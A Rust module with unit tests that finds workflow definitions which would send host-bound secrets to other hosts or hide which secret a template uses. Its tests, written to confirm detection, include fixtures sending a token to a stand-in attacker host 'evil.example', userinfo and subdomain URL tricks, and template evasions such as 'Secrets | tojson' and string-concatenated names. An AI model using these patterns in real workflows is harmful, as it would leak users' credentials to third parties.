//! Secrets that may be sent only to certain hosts, and checks for tasks that would send them elsewhere.
//!
//! Such a secret may appear, by its literal name, only in parameters of tasks that send: what another task derives from it could be sent by a
//! third. A valid definition can then leak it only through its requests, whose hosts are checked when they are made.

mod name;
mod place;

pub use name::HostName;

use crate::commands;
use crate::secrets::usual_hosts;
use crate::template::to_text;
use name::is_inside;
use place::{Way, sends, written};
use regex::Regex;
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;
use url::Url;

/// A reference to a secret by its literal name, complete.
static NAMED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r#"\bSecrets\s*(?:\.\s*([A-Za-z_][A-Za-z0-9_]*)|\[\s*\\?["']([A-Za-z0-9_]+)\\?["']\s*\])(\s*\()?"#,
    )
    .ok()
});
/// Any use of secrets.
static TOUCHED: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"\bSecrets\b").ok());

/// Allowed hosts by the name of the secret; other secrets may be sent anywhere.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct BoundSecrets(BTreeMap<String, Binding>);

#[derive(Debug, Clone, PartialEq, Eq)]
struct Binding {
    hosts: Vec<HostName>,
    /// The hosts are the default for such a token, not configured.
    is_usual: bool,
    /// Internal addresses are allowed too, for self-hosted services; the administrator must still allow requests to them.
    goes_inside: bool,
}

impl FromIterator<(String, Vec<HostName>)> for BoundSecrets {
    fn from_iter<T: IntoIterator<Item = (String, Vec<HostName>)>>(secrets: T) -> Self {
        let bound = secrets.into_iter().filter(|(_, hosts)| !hosts.is_empty());
        Self(
            bound
                .map(|(name, hosts)| (name, Binding { hosts, is_usual: false, goes_inside: false }))
                .collect(),
        )
    }
}

/// A problem in a definition, with its location.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Leak {
    /// For example `tasks[2].params.url`.
    pub place: String,
    pub reason: String,
}

/// The task whose parameters are checked.
#[derive(Clone, Copy)]
struct Sender<'d> {
    kind: &'d str,
    params: &'d Value,
}

impl Binding {
    fn allows(&self, host: &str) -> bool {
        self.hosts.iter().any(|known| known.allows(host)) || (self.goes_inside && is_inside(host))
    }

    /// Appends what the user can do about it.
    fn remedy(&self, reason: String) -> String {
        if self.is_usual {
            return format!("{reason}; Settings, Workflow secrets, says where else it may be sent");
        }
        reason
    }
}

impl BoundSecrets {
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// Binds a secret from the service's environment that is not bound yet: to its host if it is an address, else to the default hosts of a token
    /// with that name.
    pub fn bind_usual(&mut self, name: &str, value: Option<&str>) {
        let Some(usual) = usual_hosts(name) else { return };
        let address = value.and_then(|value| Url::parse(value.trim()).ok());
        let own = address.as_ref().and_then(Url::host_str).map(|host| vec![host]);
        let goes_inside = own.is_none();
        let hosts = own.unwrap_or_else(|| usual.to_vec());
        let hosts: Vec<HostName> = hosts.iter().filter_map(|host| HostName::read(host).ok()).collect();
        self.0.insert(name.to_owned(), Binding { hosts, is_usual: true, goes_inside });
    }

    /// Checks that these secrets may be sent to a host.
    ///
    /// # Errors
    /// The first secret that may not, with the host.
    pub fn check<'n>(
        &self,
        names: impl IntoIterator<Item = &'n str>,
        host: Option<&str>,
    ) -> Result<(), String> {
        for name in names {
            let Some(binding) = self.0.get(name) else { continue };
            match host {
                Some(host) if binding.allows(host) => {}
                Some(host) => {
                    return Err(binding.remedy(format!("{}, and this task sends to {host}", self.rule(name))));
                }
                None => {
                    let rule = self.rule(name);
                    return Err(
                        binding.remedy(format!("{rule}, and it is not known where this task sends it"))
                    );
                }
            }
        }
        Ok(())
    }

    fn rule(&self, name: &str) -> String {
        let hosts = self.0.get(name).into_iter().flat_map(|binding| &binding.hosts);
        let hosts: Vec<String> = hosts.map(ToString::to_string).collect();
        format!("the secret {name} may be sent to {} alone", hosts.join(", "))
    }

    /// The places of a definition that would send a secret elsewhere, or that hide where it goes.
    pub fn leaks(&self, definition: &Value) -> Vec<Leak> {
        let mut found = Vec::new();
        // Templates can use only secrets that the definition mentions.
        if crate::mask::named(definition).iter().any(|name| self.0.contains_key(name)) {
            self.visit(definition, "", None, &mut found);
        }
        found
    }

    fn visit(&self, value: &Value, place: &str, sender: Option<Sender<'_>>, found: &mut Vec<Leak>) {
        match value {
            Value::String(text) => self.look(text, place, sender, found),
            Value::Array(list) => {
                for (number, one) in list.iter().enumerate() {
                    self.visit(one, &format!("{place}[{number}]"), sender, found);
                }
            }
            Value::Object(fields) => {
                let kind = value["type"].as_str().unwrap_or_default();
                let params = fields.get("params").filter(|params| sender.is_none() && sends(kind, params));
                let own = params.map(|params| Sender { kind, params });
                if let Some(own) = own {
                    self.look_at_implied(own, place, found);
                }
                for (key, one) in fields {
                    let inner = if place.is_empty() { key.clone() } else { format!("{place}.{key}") };
                    self.look(key, &inner, None, found);
                    self.visit(
                        one,
                        &inner,
                        if key == "params" && own.is_some() { own } else { sender },
                        found,
                    );
                }
            }
            _ => {}
        }
    }

    /// Checks tokens that a task uses without naming them.
    fn look_at_implied(&self, sender: Sender<'_>, place: &str, found: &mut Vec<Leak>) {
        // A template may give another name, and an unbound token may not exist: both are known only in the run.
        let is_usual = |name: &String| self.0.get(name).is_some_and(|binding| binding.is_usual);
        let mut names = implied(sender.kind, sender.params);
        names.retain(|name| !is_usual(name));
        if let Way::To(host) = written(sender.kind, sender.params)
            && let Err(reason) = self.check(names.iter().map(String::as_str), Some(&host))
        {
            found.push(Leak { place: format!("{place}.params"), reason });
        }
    }

    fn look(&self, text: &str, place: &str, sender: Option<Sender<'_>>, found: &mut Vec<Leak>) {
        // A text without a template is sent unchanged.
        if !text.contains("{{") && !text.contains("{%") {
            return;
        }
        let mut leak = |reason: String| found.push(Leak { place: place.to_owned(), reason });
        if hides(text) {
            let names: Vec<&str> = self.0.keys().map(String::as_str).collect();
            return leak(format!(
                "expected {{{{ Secrets.NAME }}}}: of {}, which may be sent to some hosts alone, it must be seen where they go",
                names.join(", ")
            ));
        }
        for (name, binding) in names_in(text).iter().filter_map(|name| self.0.get_key_value(name)) {
            let Some(sender) = sender else {
                leak(binding.remedy(format!(
                    "{}: it stands in the parameters of tasks that send there, and nowhere else",
                    self.rule(name)
                )));
                continue;
            };
            // Values from templates and secrets are checked in the run.
            if let Way::To(host) = written(sender.kind, sender.params)
                && let Err(reason) = self.check([name.as_str()], Some(&host))
            {
                leak(reason);
            }
        }
    }
}

/// Names of secrets in a text.
fn names_in(text: &str) -> BTreeSet<String> {
    let found = NAMED.iter().flat_map(|pattern| pattern.captures_iter(text));
    found.filter_map(|found| Some(found.get(1).or(found.get(2))?.as_str().to_owned())).collect()
}

/// From the start of the first template to the end of the last: quotes and comments can hide ends in between.
fn templates(text: &str) -> &str {
    let start = ["{{", "{%", "{#"].iter().filter_map(|sign| text.find(sign)).min();
    let end = ["}}", "%}"].iter().filter_map(|sign| text.rfind(sign)).max();
    start.zip(end).and_then(|(start, end)| text.get(start..end)).unwrap_or_default()
}

/// Whether a template uses secrets other than by a literal name.
fn hides(text: &str) -> bool {
    let text = templates(text);
    let touched = TOUCHED.iter().flat_map(|pattern| pattern.find_iter(text)).count();
    let named = NAMED.iter().flat_map(|pattern| pattern.captures_iter(text));
    touched != named.filter(|found| found.get(3).is_none()).count()
}

/// Names of the secrets in the texts of a value.
pub fn named(value: &Value) -> BTreeSet<String> {
    match value {
        Value::String(text) => names_in(text),
        Value::Array(list) => list.iter().flat_map(named).collect(),
        Value::Object(fields) => fields.values().flat_map(named).collect(),
        _ => BTreeSet::new(),
    }
}

/// Secrets that a call uses without naming them: tokens of the service, and those of integrations.
pub fn implied(kind: &str, params: &Value) -> Vec<String> {
    place::implied(kind, params)
}

/// Whether a host is this computer or in an internal network, judging by its name or address.
pub fn leads_inside(host: &str) -> bool {
    name::leads_inside(host)
}

/// The host the parameters send to, unless a template determines it.
pub fn written_host(kind: &str, params: &Value) -> Option<String> {
    let host = match commands::canonical(kind) {
        "network.ntp" | "network.ssl" | "network.tcp" => to_text(&params["host"]).trim().to_owned(),
        kind if !sends(kind, params) => return None,
        kind => match written(kind, params) {
            Way::To(host) => host,
            Way::Later => return None,
        },
    };
    (!host.is_empty() && !host.contains('{')).then_some(host)
}

#[cfg(test)]
mod tests {
    use super::{BoundSecrets, HostName, named};
    use serde_json::{Value, json};

    fn bound() -> BoundSecrets {
        let host = |text: &str| HostName::read(text).unwrap();
        BoundSecrets::from_iter([
            ("TOKEN".to_owned(), vec![host("api.github.com"), host("*.example.com")]),
            ("FREE".to_owned(), Vec::new()),
        ])
    }

    fn told(tasks: Value) -> String {
        let leaks = bound().leaks(&json!({ "tasks": tasks }));
        leaks.iter().map(|leak| format!("{}: {}", leak.place, leak.reason)).collect::<Vec<_>>().join("; ")
    }

    fn http(url: &str, more: Value) -> Value {
        let mut params = json!({ "url": url });
        params.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        json!([{ "id": "ask", "type": "integrations.http", "params": params }])
    }

    fn bearer() -> Value {
        json!({ "auth_type": "bearer", "bearer_token": "{{ Secrets.TOKEN }}" })
    }

    #[test]
    fn a_secret_goes_to_its_hosts_and_nowhere_else() {
        for url in [
            "https://api.github.com/user",
            "https://API.GitHub.com:443/user",
            "https://a.b.example.com",
            "{{ Inputs.url }}",
            "https://{{ Inputs.host }}/x",
            "https://api.github.com/{{ Inputs.path }}",
        ] {
            assert_eq!(told(http(url, bearer())), "", "{url}");
        }
        for url in [
            "https://evil.example/",
            "https://example.com",
            "https://api.github.com.evil.example/x",
            "https://api.github.com@evil.example/x",
            "https://evil.example/{{ Secrets.TOKEN }}",
        ] {
            assert!(
                told(http(url, bearer())).contains("may be sent to api.github.com, *.example.com alone"),
                "{url}"
            );
        }
        assert_eq!(told(http("https://evil.example", json!({ "body": "{{ Secrets.FREE }}" }))), "");
    }

    #[test]
    fn a_secret_stands_where_it_is_sent_and_is_called_by_its_name() {
        let say = |text: &str| json!([{ "id": "say", "type": "core.print", "params": { "message": text } }]);
        assert!(
            told(say("{{ Secrets.TOKEN | b64encode }}"))
                .starts_with("tasks[0].params.message: the secret TOKEN")
        );
        let mut set = http("https://api.github.com", bearer());
        set[0]["set_vars"] = json!({ "copy": "{{ Secrets['TOKEN'] }}" });
        assert!(told(set).starts_with("tasks[0].set_vars.copy: the secret TOKEN"));
        for text in [
            "{{ Secrets | tojson }}",
            "{{ Secrets['TO' ~ 'KEN'] }}",
            "{{ Secrets.get('TOKEN') }}",
            "{% set s = Secrets %}{{ s.TOKEN }}",
            "{{ Secrets['TOKEN' ~ ''] }}",
        ] {
            let mut tasks = http("https://api.github.com", bearer());
            tasks.as_array_mut().unwrap().extend(say(text).as_array().unwrap().clone());
            assert!(told(tasks).contains("it must be seen where they go"), "{text}");
        }
        let group = json!([{ "id": "g", "type": "core.group", "params": { "tasks": http("https://evil.example", bearer()) } }]);
        assert!(told(group).starts_with("tasks[0].params.tasks[0].params.bearer_token: the secret TOKEN"));
        let script = json!([{ "id": "s", "type": "scripting.run_script", "params": { "script": "x", "env": { "T": "{{ Secrets.TOKEN }}" } } }]);
        assert!(told(script).contains("and nowhere else"));
        let hook = json!([{ "id": "a", "type": "core.print", "params": { "message": "x" },
            "hooks": { "always": http("https://evil.example", bearer()) } }]);
        assert!(told(hook).contains("sends to evil.example"));
    }

    #[test]
    fn tokens_of_repositories_and_slack_go_where_the_task_says() {
        let pull = |base: &str| {
            json!([{ "id": "p", "type": "scm.get_pull_request", "params": {
                "provider": "github", "repository": "a/b", "number": 1, "base_url": base, "token": "{{ Secrets.TOKEN }}" } }])
        };
        assert_eq!(told(pull("")), "");
        assert_eq!(told(pull("https://git.example.com")), "");
        assert!(told(pull("https://git.evil.example")).contains("sends to git.evil.example"));
    }

    #[test]
    fn what_hides_a_name_from_a_look_at_the_whole_is_found() {
        let leaks = |url: &str, text: &str| {
            let tasks = http(url, json!({ "body": text }));
            bound().leaks(&json!({ "tasks": tasks }))
        };
        // An incomplete name, which nothing else in the definition mentions.
        assert!(!leaks("https://evil.example", "{{ Secrets['TOKEN' ~ ''] }}").is_empty());
        // A token that is used implicitly by tasks, without its name.
        let tasks = json!([
            { "id": "p", "type": "scm.get_pull_request", "params": { "provider": "github", "repository": "a/b", "number": 1 } },
            { "id": "s", "type": "core.print", "params": { "message": "{{ Secrets | tojson }}" } },
        ]);
        let github = BoundSecrets::from_iter([(
            "GITHUB_TOKEN".to_owned(),
            vec![HostName::read("api.github.com").unwrap()],
        )]);
        let told = github.leaks(&json!({ "tasks": tasks }));
        assert_eq!(told.len(), 1, "{told:?}");
        let prose = json!([{ "id": "s", "type": "core.print", "params": { "message": "Secrets of {{ Inputs.name }}: no Secrets." } },
            { "id": "p", "type": "scm.get_pull_request", "params": { "provider": "github", "repository": "a/b", "number": 1 } }]);
        assert!(github.leaks(&json!({ "tasks": prose })).is_empty());
        assert_eq!(named(&json!({ "a": ["{{ Secrets\n.TOKEN }}"] })), ["TOKEN".to_owned()].into());
    }

    #[test]
    fn a_token_that_no_task_names_is_compared_with_an_address_that_is_written_out() {
        let github = BoundSecrets::from_iter([(
            "GITHUB_TOKEN".to_owned(),
            vec![HostName::read("api.github.com").unwrap()],
        )]);
        let told = |base: &str, token: &str| {
            github.leaks(&json!({ "tasks": [{ "id": "p", "type": "scm.get_pull_request", "params": {
                "provider": "github", "repository": "a/b", "number": 1, "base_url": base, "token": token } }] }))
        };
        assert!(told("", "").is_empty());
        assert!(told("https://git.own.example", "{{ Secrets.OWN }}").is_empty());
        assert_eq!(told("https://git.own.example", "")[0].place, "tasks[0].params");
        let mut usual = BoundSecrets::default();
        usual.bind_usual("GITHUB_TOKEN", None);
        usual.bind_usual("OTHER", None);
        assert_eq!(
            usual.check(["OTHER", "GITHUB_TOKEN"], Some("git.own.example")).unwrap_err(),
            "the secret GITHUB_TOKEN may be sent to api.github.com, github.com, uploads.github.com alone, and this task sends to git.own.example; \
             Settings, Workflow secrets, says where else it may be sent"
        );
        // A self-hosted service at an internal address; the egress policy decides whether it can be reached.
        for inside in ["127.0.0.1", "10.2.3.4", "[::1]", "localhost"] {
            assert!(usual.check(["GITHUB_TOKEN"], Some(inside)).is_ok(), "{inside}");
        }
        for outside in ["127.0.0.1.example.com", "8.8.8.8", "localhost.example.com", "[::ffff:10.2.3.4]"] {
            assert!(usual.check(["GITHUB_TOKEN"], Some(outside)).is_err(), "{outside}");
        }
        usual.bind_usual("GITHUB_TOKEN", Some("https://:token@git.own.example"));
        assert!(usual.check(["GITHUB_TOKEN"], Some("git.own.example")).is_ok());
        assert!(usual.check(["GITHUB_TOKEN"], Some("127.0.0.1")).is_err(), "it says where it goes");
        let refused = bound().check(["TOKEN"], None).unwrap_err();
        assert!(refused.ends_with("it is not known where this task sends it"), "{refused}");
    }
}
